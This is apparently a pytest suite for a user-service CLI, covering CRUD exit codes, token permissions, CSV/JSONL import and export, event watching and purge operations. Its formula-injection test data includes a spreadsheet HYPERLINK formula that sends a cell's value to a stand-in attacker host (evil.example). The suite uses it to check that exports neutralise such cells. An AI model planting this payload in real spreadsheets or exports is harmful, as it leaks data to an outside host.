"""`userservice users …` as a real process against a real server: JSON out, exit codes, files."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import sys
from pathlib import Path
from typing import Any

import pytest
from helpers.servers import make_settings, running_app
from helpers.tokens import bearer
from hypothesis import given, settings
from hypothesis import strategies as st

from user.v1 import user_pb2
from userservice.server import Application
from userservice.user_files import UserWriter, neutralise_cell, read_users, restore_cell

ROWS = 3000
ROLES = ("USER_ROLE_VIEWER", "USER_ROLE_EDITOR", "USER_ROLE_ADMIN")


async def users_cli(
    port: int, *args: str, stdin: bytes = b"", token: str = ""
) -> tuple[int, str, str]:
    """Run `userservice users ARGS` (60 s at most); return exit code, stdout, stderr.

    The token is an admin's unless one (an authorization header value) is given.
    """
    env = {key: value for key, value in os.environ.items() if not key.startswith("USERSERVICE_")}
    env["USERSERVICE_CLI_ADDRESS"] = f"127.0.0.1:{port}"
    env["USERSERVICE_CLI_TOKEN"] = (token or bearer()).removeprefix("Bearer ")
    process = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "userservice", "users", *args, env=env,
        stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
    )  # fmt: skip
    try:
        out, err = await asyncio.wait_for(process.communicate(stdin), 60)
    finally:
        if process.returncode is None:
            process.kill()
            await process.wait()
    assert process.returncode is not None
    return process.returncode, out.decode(), err.decode()


def lines(output: str) -> list[dict[str, Any]]:
    """Parse one JSON object per line."""
    return [json.loads(line) for line in output.splitlines() if line.strip()]


@pytest.mark.asyncio
async def test_crud_prints_proto3_json_and_exits_with_the_grpc_code(app: Application) -> None:
    code, out, err = await users_cli(
        app.port, "create", "--email", "ada@example.com", "--display-name", "Ada",
        "--role", "USER_ROLE_EDITOR",
    )  # fmt: skip
    assert code == 0, err
    (created,) = lines(out)
    assert created["displayName"] == "Ada"
    assert created["role"] == "USER_ROLE_EDITOR"
    code, out, _ = await users_cli(app.port, "get", created["id"])
    assert (code, lines(out)[0]["etag"]) == (0, created["etag"])
    code, out, err = await users_cli(
        app.port, "update", created["id"], "--display-name", "Ada L.", "--etag", created["etag"]
    )
    assert code == 0, err
    updated = lines(out)[0]
    assert updated["displayName"] == "Ada L."
    code, out, _ = await users_cli(app.port, "list", "--page-size", "1")
    assert [user["id"] for user in lines(out)] == [created["id"]]
    code, _, err = await users_cli(app.port, "delete", created["id"], "--etag", created["etag"])
    assert code == 64 + 10, err  # ABORTED: the etag is stale
    code, _, err = await users_cli(app.port, "delete", created["id"], "--etag", updated["etag"])
    assert code == 0, err
    code, _, err = await users_cli(app.port, "get", created["id"])
    assert code == 64 + 5  # NOT_FOUND
    assert "NOT_FOUND" in err
    code, _, err = await users_cli(app.port, "create", "--email", "nope", "--display-name", "X")
    assert code == 64 + 3  # INVALID_ARGUMENT
    assert "user.email:" in err


@pytest.mark.asyncio
async def test_a_write_token_creates_and_changes_its_own_user_only(app: Application) -> None:
    ada = bearer(("users.read", "users.write"), subject="ada")
    code, out, err = await users_cli(
        app.port, "create", "--email", "ada@example.com", "--display-name", "Ada", token=ada
    )
    assert code == 0, err
    (mine,) = lines(out)
    assert (mine["subject"], mine["role"]) == ("ada", "USER_ROLE_VIEWER")
    code, _, err = await users_cli(
        app.port, "create", "--email", "ada2@example.com", "--display-name", "Ada", token=ada
    )
    assert code == 64 + 6, err  # ALREADY_EXISTS: one user per subject
    code, out, err = await users_cli(
        app.port, "update", mine["id"], "--display-name", "A", token=ada
    )
    assert (code, lines(out)[0]["displayName"]) == (0, "A"), err
    code, _, err = await users_cli(
        app.port, "update", mine["id"], "--role", "USER_ROLE_ADMIN", token=ada
    )
    assert code == 64 + 7, err  # PERMISSION_DENIED
    assert "may set user.role" in err
    # An admin names the subject of the user it creates, and may move it.
    code, out, err = await users_cli(
        app.port,
        "create",
        "--email",
        "bob@example.com",
        "--display-name",
        "Bob",
        "--subject",
        "bob",
    )
    assert (code, lines(out)[0]["subject"]) == (0, "bob"), err
    code, _, err = await users_cli(app.port, "delete", lines(out)[0]["id"], token=ada)
    assert code == 64 + 7, err
    assert "is not the caller's own user" in err


@pytest.mark.asyncio
async def test_import_csv_then_export_round_trips_every_field(
    sqlite_url: str, tmp_path: Path
) -> None:
    source = tmp_path / "users.csv"
    with source.open("w", newline="", encoding="utf-8") as stream:
        writer = csv.writer(stream)
        writer.writerow(["email", "display_name", "role", "subject"])
        for i in range(ROWS):
            # Commas, quotes and non-ASCII survive the CSV dialect both ways.
            subject = f"idp|{i}" if i % 2 else ""
            writer.writerow([f"user{i}@example.com", f'Zoë "{i}", Ünïcode', ROLES[i % 3], subject])
    async with running_app(make_settings(sqlite_url, rate_limit_rps=0)) as app:
        code, out, err = await users_cli(app.port, "import", str(source))
        assert code == 0, err
        assert lines(out)[0]["createdCount"] == str(ROWS)
        assert "\r" not in err  # no progress bar: stderr is not a terminal
        exported_csv, exported_jsonl = tmp_path / "out.csv", tmp_path / "out.jsonl"
        for target in (exported_csv, exported_jsonl):
            code, _, err = await users_cli(app.port, "export", str(target))
            assert code == 0, err
        _, listed, _ = await users_cli(app.port, "list", "--page-size", "1000")
    with exported_csv.open(newline="", encoding="utf-8") as stream:
        from_csv = list(csv.DictReader(stream))
    from_jsonl = lines(exported_jsonl.read_text(encoding="utf-8"))
    by_email = {user["email"]: user for user in lines(listed)}
    assert len(from_csv) == len(from_jsonl) == len(by_email) == ROWS
    for i in range(ROWS):
        email = f"user{i}@example.com"
        server = by_email[email]
        assert server["displayName"] == f'Zoë "{i}", Ünïcode'
        assert server["role"] == ROLES[i % 3]
        assert server.get("subject", "") == (f"idp|{i}" if i % 2 else "")
    for row in from_csv:
        server = by_email[row["email"]]
        assert row == {
            "id": server["id"], "email": server["email"], "display_name": server["displayName"],
            "role": server["role"], "create_time": server["createTime"],
            "update_time": server["updateTime"], "etag": server["etag"],
            "subject": server.get("subject", ""),
        }  # fmt: skip
    assert sorted(from_jsonl, key=lambda user: user["email"]) == sorted(
        by_email.values(), key=lambda user: user["email"]
    )
    # And the export imports again (into a fresh server): the importable fields are kept.
    async with running_app(make_settings(f"sqlite:///{tmp_path / 'again.db'}")) as again:
        code, out, err = await users_cli(again.port, "import", str(exported_jsonl))
        assert code == 0, err
        assert lines(out)[0]["createdCount"] == str(ROWS)


@pytest.mark.asyncio
async def test_import_reports_rejections_with_the_grpc_exit_code(app: Application) -> None:
    jsonl = (
        b'{"email": "a@example.com", "displayName": "A"}\n{"email": "bad", "displayName": "B"}\n'
    )
    code, out, _ = await users_cli(app.port, "import", "-", "--format", "jsonl", stdin=jsonl)
    result = lines(out)[0]
    assert (code, result["createdCount"], result["rejectedCount"]) == (64 + 3, "1", "1")
    assert result["rejections"][0]["index"] == "1"


@pytest.mark.asyncio
async def test_watch_prints_one_event_per_line(app: Application) -> None:
    env = {key: value for key, value in os.environ.items() if not key.startswith("USERSERVICE_")}
    env["USERSERVICE_CLI_TOKEN"] = bearer().removeprefix("Bearer ")
    process = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "userservice", "users", "--address", f"127.0.0.1:{app.port}",
        "watch", "--after-sequence", "0", env=env, stdout=asyncio.subprocess.PIPE,
    )  # fmt: skip
    try:
        for i in range(2):
            code, _, err = await users_cli(
                app.port, "create", "--email", f"w{i}@example.com", "--display-name", "W"
            )
            assert code == 0, err
        assert process.stdout is not None
        events = [json.loads(await asyncio.wait_for(process.stdout.readline(), 10)) for _ in "ab"]
    finally:
        process.terminate()
        await process.wait()
    assert [event["user"]["email"] for event in events] == ["w0@example.com", "w1@example.com"]
    assert all(event["type"] == "USER_EVENT_TYPE_CREATED" for event in events)


# Values a spreadsheet would run as formulas, and quotes that must survive the escape.
FORMULA_NAMES = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "+1 555 0100",
    "-2+3",
    "@SUM(A1:A2)",
    "'quoted from the start",
    "''two quotes",
    "'=a quote before a formula",
    "plain name",
)
FORMULA_EMAILS = ("=eq@example.com", "+plus@example.com", "-dash@example.com", "'q@example.com")


@pytest.mark.asyncio
async def test_export_neutralises_formula_cells_and_import_restores_them_exactly(
    sqlite_url: str, tmp_path: Path
) -> None:
    originals = [(f"f{index}@example.com", name) for index, name in enumerate(FORMULA_NAMES)] + [
        (email, "Formula Email") for email in FORMULA_EMAILS
    ]
    jsonl = "".join(
        json.dumps({"email": email, "displayName": name}) + "\n" for email, name in originals
    )
    exported = tmp_path / "formulas.csv"
    async with running_app(make_settings(sqlite_url)) as app:
        code, _, err = await users_cli(
            app.port, "import", "-", "--format", "jsonl", stdin=jsonl.encode()
        )
        assert code == 0, err
        code, _, err = await users_cli(app.port, "export", str(exported))
        assert code == 0, err
    with exported.open(newline="", encoding="utf-8") as stream:
        rows = list(csv.DictReader(stream))
    assert len(rows) == len(originals)
    cells = [cell for row in rows for cell in row.values()]
    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    written = {(row["email"], row["display_name"]) for row in rows}
    assert ("f0@example.com", "'" + FORMULA_NAMES[0]) in written
    assert ("f4@example.com", "''quoted from the start") in written
    assert ("f7@example.com", "plain name") in written
    assert ("'=eq@example.com", "Formula Email") in written
    # The export imports again, into a fresh server, as exactly what was exported.
    async with running_app(make_settings(f"sqlite:///{tmp_path / 'again.db'}")) as again:
        code, out, err = await users_cli(again.port, "import", str(exported))
        assert code == 0, err
        assert lines(out)[0]["createdCount"] == str(len(originals))
        _, listed, _ = await users_cli(again.port, "list", "--page-size", "100")
    assert sorted((user["email"], user["displayName"]) for user in lines(listed)) == sorted(
        originals
    )


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_a_neutralised_cell_never_starts_a_formula_and_restores_exactly(value: str) -> None:
    cell = neutralise_cell(value)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert restore_cell(cell) == value


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(alphabet=st.characters(exclude_categories=("Cs",))), max_size=5))
def test_names_survive_a_csv_export_and_import_exactly(names: list[str]) -> None:
    stream = io.StringIO(newline="")
    writer = UserWriter(stream, "csv")
    for name in names:
        writer.write(user_pb2.User(email="x@example.com", display_name=name))
    stream.seek(0)
    assert [user.display_name for user in read_users(stream, "csv")] == names


@pytest.mark.asyncio
async def test_token_file_is_read_for_the_call_and_excludes_token(
    app: Application, tmp_path: Path
) -> None:
    token_file = tmp_path / "token"
    token_file.write_text(bearer(["users.read"]).removeprefix("Bearer ") + "\n")
    create = ("create", "--email", "ada@example.com", "--display-name", "Ada")
    # The flag wins over USERSERVICE_CLI_TOKEN (set by users_cli, with every scope).
    code, _, err = await users_cli(app.port, "--token-file", str(token_file), *create)
    assert code == 64 + 7, err  # PERMISSION_DENIED: the file's token may only read
    token_file.write_text(bearer().removeprefix("Bearer ") + "\n")
    code, out, err = await users_cli(app.port, "--token-file", str(token_file), *create)
    assert code == 0, err
    assert lines(out)[0]["email"] == "ada@example.com"
    code, _, err = await users_cli(
        app.port, "--token", "x", "--token-file", str(token_file), "get", "id"
    )
    assert code == 2
    assert "not both" in err


@pytest.mark.asyncio
async def test_purge_prints_the_operation_as_it_progresses_until_done(sqlite_url: str) -> None:
    config = make_settings(sqlite_url, purge_batch_size=4, purge_batch_interval_seconds=0.5)
    async with running_app(config) as app:
        rows = "".join(f"purge{index}@example.com,Purged {index}\n" for index in range(16))
        code, _, err = await users_cli(
            app.port, "import", "-", "--format", "csv", stdin=f"email,display_name\n{rows}".encode()
        )
        assert code == 0, err
        code, out, err = await users_cli(app.port, "purge", "--filter", 'email : "purge"')
        assert code == 0, err
        printed = lines(out)
        name = printed[0]["name"]
        assert name.startswith("operations/")
        assert not printed[0].get("done")
        purged = [int(line["metadata"].get("purgedCount", 0)) for line in printed]
        assert purged == sorted(purged)
        # Four batches 0.5 s apart outlast the first WaitOperation (0.5 s): progress between.
        assert len(set(purged)) > 2
        assert printed[-1]["done"]
        assert printed[-1]["response"]["purgedCount"] == "16"
        code, out, err = await users_cli(app.port, "operation", name)
        assert code == 0, err
        assert lines(out)[0]["response"]["purgedCount"] == "16"
        code, out, err = await users_cli(app.port, "purge", "--filter", "")
        assert code == 64 + 3, err  # INVALID_ARGUMENT
        assert "filter" in err
